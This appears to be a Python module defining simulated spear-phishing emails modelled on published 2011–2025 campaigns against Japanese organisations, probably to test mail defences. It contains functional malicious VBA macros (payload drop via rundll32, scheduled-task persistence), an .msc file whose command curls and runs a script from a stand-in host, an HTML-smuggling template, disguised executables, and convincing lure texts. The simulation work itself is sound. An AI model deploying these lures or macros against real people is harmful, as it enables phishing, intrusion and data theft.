"""More targeted mail, 2011 to 2025: terse lists and papers, and containers of later years."""
from base64 import b64encode
from recipe import Recipe, auth
from making import docx, pdf, program, xlsx, zipped
from kit import Iso, Lzh, Pe, Rar4, Rar5, Rtf, agile, docs, icons, lnk, office

WORD, EXCEL, PDF_RED = (43, 87, 154), (33, 115, 70), (200, 30, 30)
DROP_VBA = """Private Sub Workbook_Open()
    Dim p: p = Environ("LOCALAPPDATA") & "\\Microsoft\\st.dat"
    Open p For Binary As #1: Put #1, , Worksheets("s").Range("B2").Value: Close #1
    CreateObject("WScript.Shell").Run "rundll32 " & p & ",Start", 0
End Sub
"""
TASK_VBA = """Sub AutoOpen()
    Dim s: s = UserForm1.TextBox1.Text
    Open Environ("APPDATA") & "\\wsup.vbs" For Output As #1: Print #1, s: Close #1
    Shell "schtasks /create /sc minute /mo 30 /tn wsup /tr ""wscript " & Environ("APPDATA") & "\\wsup.vbs" & Chr(34), vbHide
End Sub
"""
MSC = ("<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\" ProgramMode=\"UserSDI\"><StringTables><StringTable><Strings><String ID=\"1\" Refs=\"1\">基調講演の要旨</String></Strings>"
       "</StringTable></StringTables><ConsoleTaskpads><ConsoleTaskpad><Tasks><Task Type=\"CommandLine\" Command=\"cmd.exe\"><CommandLine Directory=\"\" WindowState=\"Minimized\" "
       "Params=\"/c curl -o %TEMP%\\n.vbs http://n.example.invalid/p &amp; wscript %TEMP%\\n.vbs\"/></Task></Tasks></ConsoleTaskpad></ConsoleTaskpads></MMC_ConsoleFile>").encode()
URL = b"[InternetShortcut]\r\nURL=file://files.example.invalid@80/DavWWWRoot/shiryou/view.lnk\r\nIconFile=C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe\r\nIconIndex=1\r\n"


def smuggled(name, data):
    return ("<html><head><meta charset='utf-8'><title>Invitation</title></head><body><h2>Embassy - Invitation</h2><p>The invitation is being prepared. Please wait.</p><script>"
            "const d='%s';const b=Uint8Array.from(atob(d),c=>c.charCodeAt(0));const f=new Blob([b],{type:'application/octet-stream'});"
            "const e=document.createElement('a');e.href=URL.createObjectURL(f);e.download='%s';e.click();</script></body></html>" % (b64encode(data).decode(), name)).encode()


RECIPES = [
    Recipe("t-rtf-exploit", "targeted", "Trend Micro, 2012 and 2013, and IPA, analysis of targeted mail 2012: CVE-2012-0158 in RTF files that are called .doc",
           "A bulletin on the region; the .doc is an RTF with an object of the class of that hole (its content is noise).", "【回覧】尖閣関連の最近の動向", "higashi.asia.kenkyu@yahoo.co.jp", name="東アジア研究会",
           to="kenkyu-a@example.ac.jp", date="Tue, 18 Sep 2012 11:04:26 +0900",
           body="関係各位\n\nお世話になっております。\n標記につき、最近の報道を取りまとめましたのでご参考までにお送りします。\n取扱注意でお願いします。\n\n東アジア研究会\n",
           message_id="<1347933866.22019.YahooMailNeo@web4102.mail.example>", headers=[("X-Mailer", "YahooMailWebService/0.8.121.434")],
           attach=[("最近の動向(9月).doc", Rtf().text("最近の動向\n9月18日現在").object("MSComctlLib.ListViewCtrl.2", docs.OLE + docs.noise(6000), updates=True).bytes() + docs.noise(70000), "application/msword")]),

    Recipe("t-template-scholar", "targeted", "AhnLab and ESTsecurity, 2020 to 2022: Kimsuky and Lazarus with Word files that fetch their template, to scholars of the peninsula",
           "In English, an editor asks a scholar to look through the proofs; the Word file fetches its template.", "Proofs of your commentary - please check by Friday", "editor.pacific.review@protonmail.com",
           name="Dr. Helen Marsh", hard=True, to="kenkyu-a@example.ac.jp", charset="utf-8", date="Wed, 10 Nov 2021 20:18:09 +0000",
           body="Dear Professor,\n\nThank you again for agreeing to write on the sanctions regime for our winter issue. I have taken the liberty of shortening the second section; "
                "the edited text is attached, with three queries in the margin.\n\nCould you let me have your corrections by Friday?\n\nWith kind regards\nHelen Marsh\n",
           client=("mail-40131.mail.example", "203.0.113.131"), message_id="<zK3vR8uQ@protonmail.com>", headers=[auth("pass", "pass", "pass", "protonmail.com")],
           attach=[("Commentary_edited.docx", office.docx_template("https://review.example.invalid/d/normal.dotm", text="Sanctions and their limits\nDraft, edited"), "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]),

    Recipe("t-xlsm-locked", "targeted", "MITRE ATT&CK T1566.001 and T1027.013 (files that are locked), procedures of 2018 to 2021; the wording is ours",
           "To one maker, in the name of its subsidiary abroad: a locked workbook with macros, its password in the body.", "【確認依頼】2020年度 設備投資計画(現法取り纏め)", "yasuda.kikaku@sz-reiji-trading.example",
           name="安田(深圳)", hard=True, to="keiri@example.co.jp", charset="utf-8", date="Mon, 24 Feb 2020 10:38:55 +0800",
           body="例示商事 経理ご担当者様\n\nお世話になっております。深圳の安田です。\n\n先週の電話会議でお話のありました設備投資計画を、現法側で取り纏めました。\n2枚目の為替前提が本社と合っているか、ご確認をお願いします。\n"
                "マクロで集計しておりますので、有効にしてご覧ください。\n{password}\n\n安田\n",
           password_line="開封パスワード: sz2020capex", client=("mail.sz-reiji-trading.example", "203.0.113.20"), message_id="<202002241038551240017@sz-reiji-trading.example>",
           headers=[auth("none", domain="sz-reiji-trading.example"), ("X-Mailer", "Foxmail 7.2.9.156[cn]")],
           attach=[("設備投資計画_2020.xlsm", agile(office.xlsm(DROP_VBA, text="設備投資計画\n為替前提"), "sz2020capex"), "application/vnd.ms-excel.sheet.macroEnabled.12")]),

    Recipe("t-msc", "targeted", "Genians, May 2024: Kimsuky with console files (.msc), one of them uploaded from Japan; Elastic, June 2024",
           "A talk's gist as a console file of Windows that runs a command from its task.", "基調講演の要旨(ご確認のお願い)", "ishikura.sympo@gmail.com", name="石倉", to="kenkyu-a@example.ac.jp", charset="utf-8",
           date="Tue, 09 Apr 2024 14:31:18 +0900",
           body="先生\n\nお世話になっております。シンポジウム担当の石倉です。\n先日頂戴した基調講演の要旨を整えましたので、ご確認いただけますでしょうか。\n左側の「開く」を押していただくと本文が表示されます。\n\n石倉\n",
           message_id="<CAG3vqkR1d8@mail.gmail.com>", headers=[auth("pass", "pass", "pass", "gmail.com")], attach=[("基調講演の要旨.zip", zipped(("基調講演の要旨.msc", MSC)), "application/zip")]),

    Recipe("t-embassy-smuggling", "targeted", "Mandiant, Unit 42 and CERT.PL, 2022 and 2023: APT29 to diplomats by pages that make a disc image (EnvyScout)",
           "An embassy invites to a reception; the page that is attached builds a disc image with a shortcut and a library.", "Invitation - National Day reception", "protocol@embassy-mission.example", name="Protocol Section",
           hard=True, to="soumu@example.ac.jp", charset="utf-8", date="Thu, 09 Feb 2023 08:26:40 +0000",
           body="Excellency,\n\nThe Embassy presents its compliments and has the honour to invite you to a reception on the occasion of the National Day.\n"
                "The invitation and the form of reply are attached. Kindly reply by 20 February.\n\nProtocol Section\n",
           client=("mail.town-hall.example", "203.0.113.180"), message_id="<63e4ad10.000b@embassy-mission.example>", headers=[auth("pass", domain="embassy-mission.example"), ("Reply-To", "protocol.section@proton.me")],
           attach=[("Invitation.html", smuggled("Invitation.iso", Iso(volume="INV").add("Invitation.lnk", lnk("/c start note.pdf & rundll32 msgx.dll,Show", "C:\\Windows\\System32\\cmd.exe", icon="imageres.dll",
                                                                                                 icon_index=3, show=7)).add("msgx.dll", Pe(dll=True).bytes(), hidden=True).add("note.pdf", pdf("Invitation"), hidden=True).bytes()), "text/html")]),

    Recipe("t-blanks-lzh", "targeted", "IPA, analyses of targeted mail 2011 and 2012: blanks that push the end of a name out of sight, .lzh from Japan's own archiver",
           "After the earthquake, a table of measured doses; blanks stand before the .exe in an .lzh.", "放射線量測定値のまとめ(4月15日現在)", "hoshasen.joho@excite.co.jp", name="環境測定担当", to="soumu@example.ac.jp",
           date="Fri, 15 Apr 2011 18:20:44 +0900",
           body="関係者各位\n\nお疲れ様です。\n本日現在の放射線量の測定値をまとめましたので、お送りいたします。\n関係する方へ転送いただいて構いません。\n\n環境測定担当\n",
           client=("wm14.portal.example", "203.0.113.14"), message_id="<20110415092044.5511@wm14.portal.example>", headers=[("X-Mailer", "Excite Mail")],
           attach=[("測定値0415.lzh", Lzh(level=1).add("測定値0415.xls" + " " * 70 + ".exe", program(icons.document(accent=EXCEL), 96000, stamp=0x4DA70000, overlay=docs.OLE)).bytes())]),

    Recipe("t-meibo-bcc", "targeted", "J-CRAT, activity report of the first half of fiscal 2016, 2 (2); IPA, analysis of 2014: Bcc and free mail",
           "A list of members in two lines, to nobody by name, from free mail; the program has Word's picture.", "名簿", "jimu.tanto2016@yahoo.co.jp", to="", name="事務担当", date="Fri, 10 Jun 2016 09:08:13 +0900",
           body="名簿を送ります。\n変更があればお知らせください。\n", message_id="<20160610000813.66203.qmail@web44.mail.example>", headers=[auth("pass", "pass", "none", "yahoo.co.jp")],
           attach=[("名簿.zip", zipped(("名簿.exe", program(icons.document(accent=WORD), 130000, stamp=0x5759A000))), "application/zip")]),

    Recipe("t-enquete", "targeted", "J-CRAT, activity report of the first half of fiscal 2016, 2 (2); JPCERT/CC, February 2017: ChChes in zips, as programs with the icon of Word",
           "A questionnaire in three lines; beside the program with Word's picture lies a genuine text.", "アンケートご協力のお願い", "chousa.kikaku.h28@gmail.com", name="調査企画係", hard=True, to="kenkyu-a@example.ac.jp",
           date="Fri, 28 Oct 2016 16:52:01 +0900",
           body="先生\n\nいつもお世話になっております。\n添付のアンケートにご回答をお願いいたします。11月4日までにご返信いただけますと助かります。\n\n調査企画係\n",
           message_id="<CAJm9wQ4tT@mail.gmail.com>", headers=[auth("pass", "pass", "pass", "gmail.com")],
           attach=[("アンケート.zip", zipped(("アンケート/アンケート用紙.exe", program(icons.document(accent=WORD), 170000, packed=True, CompanyName="Microsoft Corporation", FileDescription="Microsoft Word")),
                                         ("アンケート/ご記入にあたって.txt", "ご記入の上、このアドレスへご返信ください。\r\n".encode("cp932"))), "application/zip")]),

    Recipe("t-minutes", "targeted", "Kaspersky, August 2015 (Blue Termite): programs with document icons against Japan, hosts within Japan; the wording is ours",
           "The minutes of a meeting in one line, from a rented server in Japan in a colleague's name; a .scr with Word's picture in a rar.", "Fwd: 議事録(案)", "nomura@reiji-kikaku.example", name="野村", hard=True, twin="b-office-minutes",
           to="kikaku@example.ac.jp", date="Wed, 22 Jul 2015 17:40:35 +0900",
           body="お疲れさまです、野村です。\n\n先日の打合せの議事録(案)です。修正があれば赤字でお願いします。\n", client=("www3.rental-server.example", "198.51.100.73"),
           message_id="<55AF5733.6050102@reiji-kikaku.example>", headers=[auth("none", domain="reiji-kikaku.example"), ("User-Agent", "Mozilla/5.0 (Windows NT 6.1; rv:31.0) Gecko/20100101 Thunderbird/31.7.0")],
           attach=[("議事録(案).rar", Rar4().add("議事録(案)_0721.scr", program(icons.document(accent=WORD), 105000, stamp=0x55AE0000, overlay=docx("議事録(案)")), unicode="議事録(案)_0721.scr").bytes(), "application/x-rar-compressed")]),

    Recipe("t-conference-paper", "targeted", "MITRE ATT&CK T1566.001 and T1036 (programs in the clothes of documents), procedures of 2012 to 2015; the wording is ours",
           "In English, a paper of a conference to a scholar, who is to review it; the program is named like the paper and has a PDF's picture.", "ICPS 2013 - paper assigned to you for review (No. 148)", "icps2013.pc@gmail.com",
           name="ICPS 2013 Program Committee", to="kenkyu-a@example.ac.jp", charset="us-ascii", date="Mon, 29 Jul 2013 15:12:27 +0800",
           body="Dear Professor,\n\nThank you for serving on the program committee of ICPS 2013. Paper No. 148, \"Optical Clocks and the Redefinition of the Second\", has been assigned to you.\n"
                "The manuscript is attached. Please submit your review by August 16.\n\nProgram Chairs\n",
           message_id="<CAB7o2v-pK4@mail.gmail.com>", headers=[auth("pass", "pass", "none", "gmail.com")],
           attach=[("ICPS2013_Paper148.zip", zipped(("Optical Clocks and the Redefinition of the Second.exe", program(icons.document(accent=PDF_RED), 140000, stamp=0x51F50000, overlay=pdf("Optical Clocks")))), "application/zip")]),

    Recipe("t-sfx-pdf", "targeted", "MITRE ATT&CK T1027 and T1204.002: self-extracting archives with a decoy",
           "A call of a funding agency; a self-extracting archive runs in silence and opens a genuine PDF.", "平成29年度 公募要領の変更について", "koubo.tantou@infoseek.jp", name="公募担当", to="kenkyu-b@example.ac.jp",
           date="Tue, 06 Jun 2017 13:15:49 +0900",
           body="研究代表者 各位\n\n平素よりお世話になっております。\n公募要領に一部変更がありましたので、お知らせいたします。\n変更点は添付の資料の3ページをご覧ください。\n\n公募担当\n",
           client=("rmail21.portal.example", "203.0.113.21"), message_id="<20170606131549.A1D2.koubo@infoseek.jp>", headers=[auth("pass", "none", "none", "infoseek.jp")],
           attach=[("公募要領の変更点.zip", zipped(("公募要領の変更点.exe", Rar5().comment(";The comment below contains SFX script commands\r\nPath=%TEMP%\\kb\r\nSetup=koubo.pdf\r\nSetup=kbsvc.exe\r\nSilent=1\r\nOverwrite=1\r\n").add(
               "koubo.pdf", pdf("公募要領の変更点")).add("kbsvc.exe", program(None, 50000)).bytes(prefix=program(icons.document(accent=PDF_RED), 80000)))), "application/zip")]),

    Recipe("t-lookalike-macro", "targeted", "MITRE ATT&CK T1583.001 and T1566.001 (look-alike domains for spear-phishing), procedures of 2018 to 2022; the wording is ours",
           "From a domain that looks like the reader's own; the regulation as a Word file with macros.", "【総務課】在宅勤務規程の改定案について(意見照会)", "soumu@exarnple-ac.example", name="総務課", hard=True, to="kenkyu-b@example.ac.jp",
           charset="utf-8", date="Mon, 20 Apr 2020 11:29:06 +0900",
           body="各位\n\n総務課です。\n在宅勤務の拡大にともない、規程の改定案を作成しました。\n内容をご確認の上、ご意見があれば4月24日(金)までに総務課あてご返信ください。\n\n※旧版の Word で表示が崩れる場合は「コンテンツの有効化」をお願いします。\n",
           client=("out4.mailhost.example", "203.0.113.4"), message_id="<5E9D0742.4030205@exarnple-ac.example>", headers=[auth("pass", "pass", "none", "exarnple-ac.example")],
           attach=[("在宅勤務規程(改定案).docm", office.docm(TASK_VBA, text="在宅勤務規程(改定案)\n第1条"), "application/vnd.ms-word.document.macroEnabled.12")]),

    Recipe("t-second-turn", "targeted", "NPA, first half of 2012 and 2013: talks of several turns (やりとり型), inquiries to the public desk, then a locked file",
           "An inquiry to the public desk goes on: the details of a defect in a locked zip, whose program has Word's picture.", "Re: Re: 製品に関するお問い合わせ", "n.hirose_77@livedoor.com", name="広瀬 直樹", hard=True,
           to="info@example.co.jp", date="Fri, 26 Oct 2012 15:47:30 +0900",
           body="例示商事 お客様窓口 ご担当者様\n\n早速のご返信をありがとうございます。広瀬です。\n\n不具合の状況を文書にまとめましたので、お送りします。写真も入っているため圧縮しました。\n{password}\nご確認の上、ご回答をお願いいたします。\n\n"
                "> 広瀬様\n> お問い合わせいただきありがとうございます。\n> 恐れ入りますが、不具合の状況を詳しくお知らせいただけますでしょうか。\n",
           password_line="解凍のパスワードは hirose1026 です。", client=("mail7.portal.example", "203.0.113.7"), message_id="<20121026064730.12077@livedoor.com>",
           headers=[("In-Reply-To", "<5089F8B2.8040301@example.co.jp>"), ("References", "<20121024081102.11853@livedoor.com> <5089F8B2.8040301@example.co.jp>")],
           attach=[("不具合の状況.zip", zipped(("不具合の状況.exe", program(icons.document(accent=WORD), 88000, stamp=0x50890000)), ("写真1.jpg", docs.JPG), password="hirose1026"), "application/zip")]),

    Recipe("t-url-webdav", "targeted", "Trend Micro, February 2024 (Water Hydra, CVE-2024-21412), and Proofpoint, 2024: .url files that lead to file servers on the Web",
           "Papers of a study group beside a .url with a PDF's picture, which opens a file server on the Web.", "研究会の配布資料について", "kaneshiro.kenkyukai@outlook.com", name="金城", to="kenkyu-b@example.ac.jp", charset="utf-8",
           date="Thu, 06 Mar 2025 19:03:22 +0900",
           body="先生\n\nお世話になっております。研究会幹事の金城です。\n今月の配布資料をお送りします。資料1は容量が大きいため、ショートカットからお開きください。\n当日は会場が変わりますので、次第もあわせてご確認ください。\n\n金城\n",
           message_id="<TYZPR06MB4413@TYZPR06MB4413.apcprd06.prod.mail.example>", headers=[auth("pass", "pass", "pass", "outlook.com")],
           attach=[("配布資料.zip", zipped(("資料1.pdf.url", URL), ("次第.docx", docx("研究会 次第")), ("出席者.xlsx", xlsx([("氏名", "所属"), ("金城", "")]))), "application/zip")]),

    Recipe("t-onedrive-password", "targeted", "Trend Micro, November 2024 (Earth Kasha), and NPA and NISC, January 2025 (MirrorFace): links to OneDrive and locked files",
           "A person who says to have retired from a ministry goes on with a talk: a link to a cloud, and the password of what lies there.", "Re: 経済安全保障に関する意見交換の件", "kuwahara.masato.ret@gmail.com", name="桑原 正人",
           hard=True, alone=False, to="kenkyu-b@example.ac.jp", charset="utf-8", date="Wed, 11 Sep 2024 08:49:37 +0900",
           body="先生\n\nご返信をいただき、誠にありがとうございます。桑原です。\n\nお話ししておりました論点のメモを下記に置きました。未定稿ですので、先生限りでお願いいたします。\n\nhttps://1drv.example.invalid/f/c/9Kq2?e=mT\n\n"
                "{password}\n期限は今週末までとしております。どうぞよろしくお願いいたします。\n\n桑原 正人\n\n2024年9月10日(火) 18:20 kenkyu-b@example.ac.jp:\n> 桑原様\n> 意見交換の件、承知いたしました。メモをお送りください。\n",
           password_line="閲覧用のパスワード: Keian#0911", message_id="<CAFt0qzE7@mail.gmail.com>",
           headers=[auth("pass", "pass", "pass", "gmail.com"), ("In-Reply-To", "<66E00F4A.3020107@example.ac.jp>"), ("References", "<66E00F4A.3020107@example.ac.jp>")]),
]
